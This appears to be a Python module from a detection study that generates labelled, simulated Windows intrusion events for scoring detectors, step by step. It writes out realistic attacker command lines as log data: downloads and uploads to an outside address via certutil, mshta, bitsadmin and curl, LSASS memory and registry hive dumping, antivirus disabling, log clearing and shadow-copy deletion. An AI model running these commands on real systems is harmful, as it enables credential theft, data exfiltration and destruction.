# ruff: noqa: E501 (command lines stay in one piece: they are read and searched for as they are)
"""Multi-step attacks, invented here: the shapes of known techniques with made-up names and reserved addresses.

An attack is a list of steps; each step is a function that logs one to a few events on one or two hosts. Every event
carries the attack's id and the step's name, so that a detector can be scored step by step. Nothing in a command line
works: payloads are sentences, addresses are documentation ranges.
"""

import base64
import itertools
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Final, TypeVar

from processor.study.simulate.catalog import EXPLORER, SERVICES
from processor.study.simulate.fleet import DOMAIN, Host, outside_address
from processor.study.simulate.habits import BAD_CREDENTIALS
from processor.study.simulate.winlogbeat import Logon, Session
from processor.study.simulate.world import HOUR, MINUTE, SECOND, Label, Routine, World

_SYS32: Final = r"C:\Windows\System32"
_POWERSHELL: Final = rf"{_SYS32}\WindowsPowerShell\v1.0\powershell.exe"
_CMD: Final = rf"{_SYS32}\cmd.exe"
_SYLLABLES: Final = ("va", "ro", "ki", "ze", "lum", "tor", "ix", "ber", "no", "qua", "sel", "dry")
_LOOK_ALIKES: Final = (
    "adm1nistrator",
    "adrninistrator",
    "administrat0r",
    "svc_backup1",
    "helpdesk_",
    "defaultacc0unt",
)


@dataclass(slots=True)
class Intruder:
    """One attack under way: where it is, as whom, and which step its events are labelled with."""

    attack: str
    host: Host
    target: Host
    session: Session
    rng: random.Random
    outside: str
    stage: str = ""

    @property
    def label(self) -> Label:
        """What the next events are labelled with."""
        return Label(self.attack, self.stage, "attack")

    @property
    def home(self) -> str:
        """The profile folder of the account in use."""
        return rf"C:\Users\{self.session.account}"

    def run(self, path: str, line: str, parent: str = _CMD) -> int:
        """Start a program on the host the attack came to; how long until the next, ms."""
        self.host.machine.run(self.session, path, line, parent, self.label)
        return self._pause()

    def run_as_system(self, host: Host, path: str, line: str, parent: str = SERVICES) -> int:
        """Start a program in the system session of `host`."""
        host.machine.run(host.machine.system, path, line, parent, self.label)
        return self._pause()

    def log_on(self, host: Host, session: Session, logon_type: int, source: str, status: str = "") -> int:
        """Log on, or fail to, on `host` over NTLM from the address `source`."""
        workstation = self.name(2).upper()
        host.machine.log_on(Logon(session, logon_type, source, workstation, "NTLM", status), self.label)
        return self._pause()

    def name(self, syllables: int) -> str:
        """An invented name."""
        return "".join(self.rng.choices(_SYLLABLES, k=syllables))

    def encoded(self, sentence: str) -> str:
        """UTF-16LE in base64, as powershell -EncodedCommand takes it."""
        return base64.b64encode(sentence.encode("utf-16-le")).decode()

    def _pause(self) -> int:
        return round(self.rng.uniform(1, 40) * SECOND)


Step = Callable[[Intruder], Routine]
_Thing = TypeVar("_Thing")


def macro(i: Intruder) -> Routine:
    """A document starts a hidden, encoded PowerShell."""
    text = i.encoded(
        f"Write-Output 'simulated {i.name(3)}'; # http://{i.outside}/{i.name(2)}.txt {i.name(9)}"
    )
    yield i.run(
        _POWERSHELL,
        f"powershell.exe -nop -w hidden -ep bypass -EncodedCommand {text}",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    )


def certutil_download(i: Intruder) -> Routine:
    """A certificate tool fetches a file."""
    yield i.run(
        rf"{_SYS32}\certutil.exe",
        rf"certutil.exe -urlcache -split -f http://{i.outside}:8443/{i.name(2)}/{i.name(3)}.dat {i.home}\AppData\Local\Temp\{i.name(2)}.exe",
    )


def masquerade(i: Intruder) -> Routine:
    """svchost.exe, or a name one letter away from it, from a folder that users can write to."""
    folder = i.rng.choice(
        (
            rf"{i.home}\AppData\Roaming\{i.name(2)}",
            r"C:\Users\Public\Libraries",
            rf"C:\ProgramData\{i.name(3)}",
        )
    )
    program = i.rng.choice(("svchost.exe", "svch0st.exe", "lsasss.exe", "taskhostvv.exe"))
    yield i.run(rf"{folder}\{program}", rf"{folder}\{program} -k netsvcs -c {i.outside}:443", EXPLORER)


def discovery(i: Intruder) -> Routine:
    """Who and where am I: one of three habits."""
    habits = (
        (
            ("whoami.exe", "whoami  /all"),
            ("net.exe", 'net  group "Domain Admins" /domain'),
            ("nltest.exe", f"nltest  /domain_trusts /all_trusts /server:{i.target.machine.netbios}"),
        ),
        (
            ("systeminfo.exe", "systeminfo"),
            ("quser.exe", f"quser  /server:{i.target.machine.netbios}"),
            ("net.exe", f"net  view \\\\{i.target.machine.name} /all"),
        ),
        (
            ("tasklist.exe", "tasklist  /svc"),
            ("ARP.EXE", "arp  -a"),
            (
                "wbem\\WMIC.exe",
                r"wmic  /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName",
            ),
        ),
    )
    for program, line in i.rng.choice(habits):
        yield i.run(rf"{_SYS32}\{program}", line)


def scheduled_persistence(i: Intruder) -> Routine:
    """A task that starts the intruder's program at logon."""
    yield i.run(
        rf"{_SYS32}\schtasks.exe",
        rf'schtasks  /create /f /sc onlogon /rl highest /tn "{i.name(2)} Update" /tr "{i.home}\AppData\Roaming\{i.name(2)}.exe -s"',
    )


def registry_persistence(i: Intruder) -> Routine:
    """A Run key."""
    yield i.run(
        rf"{_SYS32}\reg.exe",
        rf'reg  add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {i.name(3)} /t REG_SZ /d "{i.home}\{i.name(2)}.exe" /f',
    )


def dump_memory(i: Intruder) -> Routine:
    """The local security authority's memory, through a system library."""
    yield i.run(
        rf"{_SYS32}\rundll32.exe",
        rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {i.rng.randrange(500, 900)} C:\Windows\Temp\{i.name(2)}.dmp full",
        _POWERSHELL,
    )


def dump_hives(i: Intruder) -> Routine:
    """The account databases, saved as files."""
    for hive in ("SAM", "SECURITY"):
        yield i.run(rf"{_SYS32}\reg.exe", rf"reg  save HKLM\{hive} C:\Windows\Temp\{i.name(2)}.hiv /y")


def dumping_tool(i: Intruder) -> Routine:
    """A renamed dumping tool from a temporary folder."""
    path = rf"C:\Windows\Temp\{i.name(2)}{i.rng.randrange(32, 65)}.exe"
    yield i.run(path, rf"{path} -accepteula -ma lsass.exe C:\Windows\Temp\{i.name(2)}.bin")


def look_alike_account(i: Intruder) -> Routine:
    """An account that reads like one that belongs there."""
    account = i.rng.choice(_LOOK_ALIKES)
    yield i.run(rf"{_SYS32}\net.exe", f"net  user {account} {i.name(3)}#{i.rng.randrange(1000)} /add /y")
    yield i.run(
        rf"{_SYS32}\net1.exe", f"net1  localgroup administrators {account} /add", rf"{_SYS32}\net.exe"
    )
    session = i.host.machine.session(
        account,
        i.host.machine.netbios.upper(),
        "S-1-5-21-1004336348-1177238915-682003330-1013",
        elevated=True,
    )
    yield i.log_on(i.host, session, 3, i.target.machine.address)


def remote_service(i: Intruder) -> Routine:
    """A logon over the network, then a service with a made-up name on the other host."""
    account = i.rng.choice(_LOOK_ALIKES)
    session = i.target.machine.session(
        account, DOMAIN, "S-1-5-21-3623811015-3361044348-30300820-1990", elevated=True
    )
    yield i.log_on(i.target, session, 3, i.host.machine.address)
    service = rf"C:\Windows\{i.name(2).upper()}SVC.exe"
    yield i.run_as_system(i.target, service, service)
    yield i.run_as_system(
        i.target,
        _CMD,
        rf"cmd.exe /c echo {i.name(2)} ^> \\.\pipe\{i.name(2)} & {_POWERSHELL} -c hostname",
        service,
    )


def remote_process(i: Intruder) -> Routine:
    """A process on the other host through management instrumentation."""
    yield i.run(
        rf"{_SYS32}\wbem\WMIC.exe",
        rf'wmic  /node:"{i.target.machine.name}" process call create "cmd.exe /c C:\Users\Public\{i.name(2)}.bat"',
    )
    yield i.run_as_system(
        i.target, _CMD, rf"cmd.exe /c C:\Users\Public\{i.name(2)}.bat", rf"{_SYS32}\wbem\WmiPrvSE.exe"
    )


def password_guessing(i: Intruder) -> Routine:
    """Failed logons from outside for several accounts, then one that works."""
    accounts = [*i.rng.sample(_LOOK_ALIKES, 2), "administrator", "guest", "backup"]
    for account in accounts:
        session = i.host.machine.session(account, DOMAIN, "S-1-0-0")
        yield i.log_on(i.host, session, 3, i.outside, BAD_CREDENTIALS)


def remote_desktop(i: Intruder) -> Routine:
    """The stolen account at a remote desktop, from outside."""
    yield i.log_on(i.host, i.session, 10, i.outside)


def blind_the_guard(i: Intruder) -> Routine:
    """The virus scanner is switched off."""
    yield i.run(
        _POWERSHELL,
        rf"powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath '{i.home}\AppData'",
    )


def script_host(i: Intruder) -> Routine:
    """The HTML application host runs a script from an address."""
    yield i.run(rf"{_SYS32}\mshta.exe", rf"mshta.exe http://{i.outside}/{i.name(2)}.hta", EXPLORER)


def transfer_job(i: Intruder) -> Routine:
    """A background transfer fetches a file."""
    yield i.run(
        rf"{_SYS32}\bitsadmin.exe",
        rf"bitsadmin  /transfer {i.name(2)} /priority foreground https://{i.name(3)}.example.net/{i.name(2)}.cab {i.home}\{i.name(2)}.cab",
    )


def collect(i: Intruder) -> Routine:
    """Documents into one archive with a password, by a tool brought along."""
    tool = rf"C:\Users\Public\{i.name(1)}r.exe"
    yield i.run(
        tool,
        rf"{tool} a -hp{i.name(3)} -v50m C:\Users\Public\{i.name(2)}.dat {i.home}\Documents\*.docx {i.home}\Documents\*.xlsx",
    )


def exfiltrate(i: Intruder) -> Routine:
    """The archive leaves: one of three ways."""
    archive = rf"C:\Users\Public\{i.name(2)}.dat"
    program, line = i.rng.choice(
        (
            ("curl.exe", f"curl.exe -s -k -T {archive} https://{i.outside}/upload/{i.name(4)}"),
            ("ftp.exe", rf"ftp.exe -n -s:{i.home}\{i.name(2)}.txt {i.outside}"),
            (
                "bitsadmin.exe",
                f"bitsadmin.exe /transfer {i.name(2)} /upload https://{i.outside}/{i.name(3)} {archive}",
            ),
        )
    )
    yield i.run(rf"{_SYS32}\{program}", line)


def clear_logs(i: Intruder) -> Routine:
    """The traces go: one of three ways."""
    journal = i.rng.choice("CDE")
    ways = (
        (
            (rf"{_SYS32}\wevtutil.exe", "wevtutil.exe cl Security"),
            (rf"{_SYS32}\wevtutil.exe", "wevtutil.exe cl System"),
        ),
        (
            (
                _POWERSHELL,
                "powershell.exe -nop -c Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }",
            ),
        ),
        ((rf"{_SYS32}\fsutil.exe", f"fsutil.exe usn deletejournal /d {journal}:"),),
    )
    for program, line in i.rng.choice(ways):
        yield i.run(program, line)


def destroy(i: Intruder) -> Routine:
    """No way back: shadow copies deleted, recovery off, then the encryptor."""
    yield i.run(rf"{_SYS32}\vssadmin.exe", "vssadmin.exe  delete shadows /all /quiet")
    yield i.run(rf"{_SYS32}\bcdedit.exe", "bcdedit.exe  /set {default} recoveryenabled no")
    path = rf"C:\Users\Public\{i.name(3)}.exe"
    yield i.run(path, rf"{path} --path C:\ --ext .{i.name(2)}", EXPLORER)


PLANS: Final[tuple[tuple[Step, ...], ...]] = (
    (macro, certutil_download, masquerade, discovery, dump_memory, remote_service, clear_logs),
    (password_guessing, remote_desktop, look_alike_account, blind_the_guard, dump_hives, destroy),
    (script_host, transfer_job, registry_persistence, dumping_tool, remote_process, collect, exfiltrate),
    (macro, masquerade, scheduled_persistence, discovery, collect, exfiltrate, clear_logs),
    (script_host, masquerade, discovery, dumping_tool, look_alike_account, remote_service, destroy),
)


def campaign(world: World, fleet: Sequence[Host], quiet: int) -> Routine:
    """One attack after another, the first after `quiet` ms, one every four to eight hours; some overlap.

    The next attack comes another way and to another host, until all ways and all hosts had their turn.
    """
    rng = world.random("campaign")
    ways, hosts = _turns(PLANS, rng), _turns([host for host in fleet if host.users] or fleet, rng)
    yield quiet
    for number in itertools.count(1):
        world.spawn(attack(world, fleet, number, next(hosts), next(ways)))
        yield rng.randrange(4 * HOUR, 8 * HOUR)


def attack(world: World, fleet: Sequence[Host], number: int, host: Host, plan: Sequence[Step]) -> Routine:
    """Attack `number`, on `host`: the steps of `plan`, minutes to an hour apart."""
    rng = world.random(f"attack/{number}")
    target = rng.choice([other for other in fleet if other is not host] or [host])
    session = host.session(rng.choice(host.users)) if host.users else host.machine.system
    intruder = Intruder(f"attack-{number:03d}", host, target, session, rng, outside_address(rng))
    for step in plan:
        intruder.stage = step.__name__
        yield from step(intruder)
        yield round(rng.uniform(5, 60) * MINUTE)


def _turns(things: Sequence[_Thing], rng: random.Random) -> Iterator[_Thing]:
    """Each of `things` once in random order, and again, without end."""
    while True:
        yield from rng.sample(things, len(things))
